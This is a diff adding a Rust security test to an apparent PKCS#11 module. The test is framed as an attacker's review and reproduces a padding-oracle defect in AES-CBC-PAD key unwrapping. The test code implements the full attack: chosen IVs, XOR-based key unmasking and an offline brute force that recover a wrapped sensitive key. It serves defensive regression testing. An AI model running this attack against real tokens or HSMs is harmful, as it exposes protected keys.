@@ -1,0 +1,273 @@
+//! An attacker's review (branch attack14h) of the fixes between 76b5fef and 6252504: the
+//! implicit rejection of the ECB/CBC/CBC-PAD unwraps (`mechanism/keypad.rs` `unpad`) and
+//! the rule that no derived key holds part of a guarded source
+//! (`mechanism/simple_derive.rs`, `token/derive.rs` `guarded`). Each test reproduces one
+//! defect found by reading the code, asserts what PKCS#11 3.0 or the project's own
+//! documents promise, and fails against the module as it was reviewed. Its doc comment
+//! says what is wrong.
+//! Run with `cargo nextest run --test attack_review14h` (after `cargo build --lib`).
+
+#![allow(clippy::unwrap_used, unreachable_pub)] // test code: a failed unwrap is a failed test; helpers are pub for the test crates sharing them
+
+mod common;
+
+use common::mech::*;
+use common::raw::{Raw, RawAttr};
+use common::*;
+use cryptoki::mechanism::Mechanism;
+use cryptoki::object::{Attribute, AttributeType, KeyType, ObjectClass, ObjectHandle};
+use cryptoki::session::Session;
+use cryptoki_sys::*;
+
+/// A generic-secret template for `C_UnwrapKey` / `C_DeriveKey`: a session key, plus
+/// `extra`.
+fn generic_template(len: Option<CK_ULONG>, extra: Vec<RawAttr>) -> Vec<RawAttr> {
+    let mut t = vec![
+        RawAttr::ulong(CKA_CLASS, CKO_SECRET_KEY),
+        RawAttr::ulong(CKA_KEY_TYPE, CKK_GENERIC_SECRET),
+        RawAttr::bool(CKA_TOKEN, false),
+    ];
+    if let Some(len) = len {
+        t.push(RawAttr::ulong(CKA_VALUE_LEN, len));
+    }
+    t.extend(extra);
+    t
+}
+
+/// HMAC-SHA256 of `data` under `key`, computed here.
+fn hmac_sha256(key: &[u8], data: &[u8]) -> Vec<u8> {
+    let key = aws_lc_rs::hmac::Key::new(aws_lc_rs::hmac::HMAC_SHA256, key);
+    aws_lc_rs::hmac::sign(&key, data).as_ref().to_vec()
+}
+
+fn string_data(ty: CK_MECHANISM_TYPE, data: &[u8]) -> RawMech {
+    let keep = vec![data.to_vec()];
+    let p = CK_KEY_DERIVATION_STRING_DATA {
+        pData: if data.is_empty() {
+            std::ptr::null_mut()
+        } else {
+            keep[0].as_ptr() as *mut _
+        },
+        ulLen: data.len() as CK_ULONG,
+    };
+    RawMech::structure(ty, &p, keep)
+}
+
+/// The owner's key-encryption key of review 14g's scenario: an AES key that may wrap and
+/// unwrap, nothing else, and whose `CKA_UNWRAP_TEMPLATE` makes every key it unwraps
+/// sensitive and unextractable.
+fn owners_kek(session: &Session) -> ObjectHandle {
+    let f = Raw::load();
+    let kek_value = session.generate_random_vec(32).unwrap();
+    f.create_with_nested(
+        session.handle(),
+        &[
+            RawAttr::ulong(CKA_CLASS, CKO_SECRET_KEY),
+            RawAttr::ulong(CKA_KEY_TYPE, CKK_AES),
+            RawAttr::bool(CKA_TOKEN, false),
+            RawAttr::bool(CKA_SENSITIVE, true),
+            RawAttr::bool(CKA_EXTRACTABLE, false),
+            RawAttr::bool(CKA_ENCRYPT, false),
+            RawAttr::bool(CKA_DECRYPT, false),
+            RawAttr::bool(CKA_WRAP, true),
+            RawAttr::bool(CKA_UNWRAP, true),
+            RawAttr::new(CKA_VALUE, &kek_value),
+        ],
+        CKA_UNWRAP_TEMPLATE,
+        &[
+            RawAttr::bool(CKA_SENSITIVE, true),
+            RawAttr::bool(CKA_EXTRACTABLE, false),
+        ],
+    )
+    .map(handle)
+    .expect("C_CreateObject(KEK with an unwrap template)")
+}
+
+// ---------------------------------------------------------------------------------------
+// C_UnwrapKey(CBC-PAD, CBC): implicit rejection told apart by the IV's malleability
+// ---------------------------------------------------------------------------------------
+
+/// The attacker's tools: the module, a logged-in session, the owner's KEK (which the
+/// attacker may unwrap with) and the unwrap mechanism attacked.
+struct Unwrapper<'a> {
+    ck: &'a Ck,
+    session: &'a Session,
+    kek: ObjectHandle,
+    mech: CK_MECHANISM_TYPE,
+}
+
+/// The attacker's view of one unwrap of the single block `block` under `iv`, as a
+/// generic secret of `len` bytes that may sign and derive: the MAC of `data` under the
+/// unwrapped key with the bytes of `iv[..len]` taken out again (by
+/// `CKM_XOR_BASE_AND_DATA`, data as long as the key). Where the padding held, the
+/// unwrapped key is D(block)[..len] xor iv[..len], so the answer is the MAC under
+/// D(block)[..len] whatever `iv[..len]` was; a substitute gives a MAC of its own.
+fn mac_of_unmasked(
+    u: &Unwrapper<'_>,
+    iv: &[u8; 16],
+    block: &[u8],
+    len: usize,
+    data: &[u8],
+) -> Vec<u8> {
+    let Unwrapper {
+        ck,
+        session,
+        kek,
+        mech,
+    } = *u;
+    let s = session.handle();
+    let key = ck
+        .unwrap(
+            s,
+            &RawMech::bytes(mech, iv),
+            kek.handle(),
+            block,
+            &generic_template(
+                Some(len as CK_ULONG),
+                vec![
+                    RawAttr::bool(CKA_SIGN, true),
+                    RawAttr::bool(CKA_DERIVE, true),
+                ],
+            ),
+        )
+        .map(handle)
+        .expect("C_UnwrapKey of one block with a chosen IV and CKA_VALUE_LEN");
+    // The unwrap template holds: the key is never read.
+    assert!(attribute_bool(session, key, AttributeType::Sensitive));
+    let mac = if iv[..len].iter().all(|b| *b == 0) {
+        session.sign(&Mechanism::Sha256Hmac, key, data).unwrap()
+    } else {
+        let unmasked = ck
+            .derive(
+                s,
+                &string_data(CKM_XOR_BASE_AND_DATA, &iv[..len]),
+                key.handle(),
+                &generic_template(None, vec![RawAttr::bool(CKA_SIGN, true)]),
+            )
+            .map(handle)
+            .expect("CKM_XOR_BASE_AND_DATA with data as long as the key");
+        let mac = session
+            .sign(&Mechanism::Sha256Hmac, unmasked, data)
+            .unwrap();
+        session.destroy_object(unmasked).unwrap();
+        mac
+    };
+    session.destroy_object(key).unwrap();
+    mac
+}
+
+/// The block cipher's decryption of `block`, recovered through `C_UnwrapKey(mech)` with
+/// chosen IVs and `CKA_VALUE_LEN`s (`pad` gives the padding byte for a key of `len`
+/// bytes: `16 - len` for CBC-PAD, 0 for CBC). For each length from 15 down to 2, the
+/// one IV byte that makes the padding hold is the one for which IVs differing only in
+/// the key's part give the same unmasked key (three IVs, so that two short substitutes
+/// agreeing by chance are no answer); the first two bytes are found from a two-byte
+/// key's MAC offline.
+fn decrypt_block_through_unwraps(
+    u: &Unwrapper<'_>,
+    pad: fn(usize) -> u8,
+    block: &[u8],
+) -> Option<[u8; 16]> {
+    let data = b"known message";
+    let mut d = [0u8; 16];
+    let mut last_mac = Vec::new();
+    for len in (2..16).rev() {
+        let p = pad(len);
+        let mut found = None;
+        for v in 0..=255u8 {
+            let mut iv_a = [0u8; 16];
+            for j in len + 1..16 {
+                iv_a[j] = d[j] ^ p;
+            }
+            iv_a[len] = v;
+            let (mut iv_b, mut iv_c) = (iv_a, iv_a);
+            iv_b[0] ^= 0x5A;
+            iv_c[1] ^= 0xA5;
+            let a = mac_of_unmasked(u, &iv_a, block, len, data);
+            if a != mac_of_unmasked(u, &iv_b, block, len, data) {
+                continue;
+            }
+            if a == mac_of_unmasked(u, &iv_c, block, len, data) {
+                found = Some(v ^ p);
+                last_mac = a;
+                break;
+            }
+        }
+        d[len] = found?;
+    }
+    // The key of two bytes the last step made real: D(block)[..2], found offline.
+    let (d0, d1) = (0..=0xFFFFu16)
+        .map(|x| ((x >> 8) as u8, x as u8))
+        .find(|(d0, d1)| hmac_sha256(&[*d0, *d1], data) == last_mac)?;
+    d[0] = d0;
+    d[1] = d1;
+    Some(d)
+}
+
+/// Defect: the implicit rejection of `C_UnwrapKey(CKM_AES_CBC_PAD)` (`mechanism/keypad.rs`
+/// `unpad`, called by `mechanism/aes.rs` `Block::unwrap`) is told apart from a real
+/// unwrap by the malleability of CBC, so it is still a padding oracle that recovers a
+/// wrapped sensitive key. The caller chooses the IV and `CKA_VALUE_LEN`: a single block
+/// unwrapped to a key of `len` bytes is D(C)[..len] xor IV[..len] when its `16 - len`
+/// padding bytes hold, a substitute (HMAC of the KEK over IV and blob) when not. The
+/// substitute changes with every IV; the real key changes exactly as IV[..len] does. So
+/// two unwraps whose IVs differ only in the key's bytes, each unmasked by
+/// `CKM_XOR_BASE_AND_DATA` with its IV's bytes (data as long as the key: not refused by
+/// the new `guarded` rule), give keys with the same HMAC exactly when the padding held.
+/// That is Vaudenay's oracle again, one padding byte at a time (at most 256 pairs per
+/// byte), and the first two bytes fall to 65,536 HMACs offline of a two-byte key.
+///
+/// Scenario of review 14g: the KEK may wrap and unwrap only, and its
+/// `CKA_UNWRAP_TEMPLATE` makes everything it unwraps sensitive and unextractable; a
+/// sensitive AES key wrapped under it with `CKM_AES_CBC_PAD` is in the attacker's hands.
+///
+/// Expected (docs/security.md attack table, "Vaudenay's padding oracle on `C_UnwrapKey`
+/// with `CKM_AES_CBC_PAD` ... the answer never depends on it"; commit f018b54): no
+/// observation of the unwrapped key depends on whether the padding held, so the wrapped
+/// key is not recovered (for instance a `CKA_VALUE_LEN` that leaves part of a block as
+/// padding of a caller-chosen IV refused, or keys unwrapped by an unauthenticated mode
+/// kept from derivations that relate them). Actual: the sensitive key's 16 bytes are
+/// recovered exactly.
+#[test]
+fn cbc_pad_unwrap_is_no_oracle_through_the_ivs_malleability() {
+    let env = TestEnv::new();
+    let (_ctx, _slot, session) = ready_token(&env);
+    let ck = Ck::load();
+    let kek = owners_kek(&session);
+    let secret_value = session.generate_random_vec(16).unwrap();
+    let secret = session
+        .create_object(&[
+            Attribute::Class(ObjectClass::SECRET_KEY),
+            Attribute::KeyType(KeyType::AES),
+            Attribute::Token(false),
+            Attribute::Sensitive(true),
+            Attribute::Extractable(true),
+            Attribute::Encrypt(true),
+            Attribute::Value(secret_value.clone()),
+        ])
+        .expect("C_CreateObject(sensitive AES key)");
+    let iv0 = [0x24u8; 16];
+    let wrapped = ck
+        .wrap(
+            session.handle(),
+            &RawMech::bytes(CKM_AES_CBC_PAD, &iv0),
+            kek.handle(),
+            secret.handle(),
+        )
+        .expect("C_WrapKey(CKM_AES_CBC_PAD)");
+    assert_eq!(wrapped.len(), 32);
+
+    let u = Unwrapper {
+        ck: &ck,
+        session: &session,
+        kek,
+        mech: CKM_AES_CBC_PAD,
+    };
+    let recovered = decrypt_block_through_unwraps(&u, |len| (16 - len) as u8, &wrapped[..16])
+        .map(|d| d.iter().zip(&iv0).map(|(a, b)| a ^ b).collect::<Vec<u8>>());
+    assert!(
+        recovered.as_deref() != Some(&secret_value[..]),
+        "C_UnwrapKey(CKM_AES_CBC_PAD) with chosen IVs and CKA_VALUE_LEN recovered the \
+         wrapped sensitive key: the substitute is told from the real key"
+    );
+}
